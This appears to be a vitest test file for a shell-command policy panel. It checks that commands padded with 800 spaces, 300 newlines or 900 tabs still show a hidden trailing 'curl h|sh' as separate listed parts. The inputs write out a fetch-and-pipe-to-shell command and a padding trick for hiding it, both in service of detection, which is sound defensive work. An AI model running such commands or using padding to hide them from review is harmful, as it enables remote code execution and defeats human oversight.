// The panel shows every part on a line of its own, made from what was understood; padding is counted, not drawn.
import { describe, expect, it } from "vitest";
import { classifyShell } from "../../src/policy/shell.ts";
import { command, panel, run } from "../view/helpers.ts";

function shown(line: string): string[] {
  const argv = ["/bin/bash", "-c", line];
  const { traits } = classifyShell(line);
  return panel(run({ commands: [command({ argv })], shell: line, traits })).split("\n");
}

describe("TH22 padding and a hidden tail", () => {
  it.each([
    ["800 blanks", `ls${" ".repeat(800)}; curl h|sh`, "{800 spaces}"],
    ["300 newlines", `ls${"\n".repeat(300)}curl h|sh`, "{300 newlines}"],
    ["900 TABs", `ls${"\t".repeat(900)}; curl h|sh`, "{900 tabs}"],
  ])("%s hide nothing", (_, line, counted) => {
    const rows = shown(line);
    expect(rows.filter((row) => /^ +\d\. /.test(row)).map((row) => row.trim())).toEqual([
      "1. ls",
      "2. curl h",
      "3. sh",
    ]);
    expect(rows.join("\n")).toContain(counted);
    expect(rows.length).toBeLessThan(30);
    expect(Math.max(...rows.map((row) => row.length))).toBeLessThan(120);
  });
});
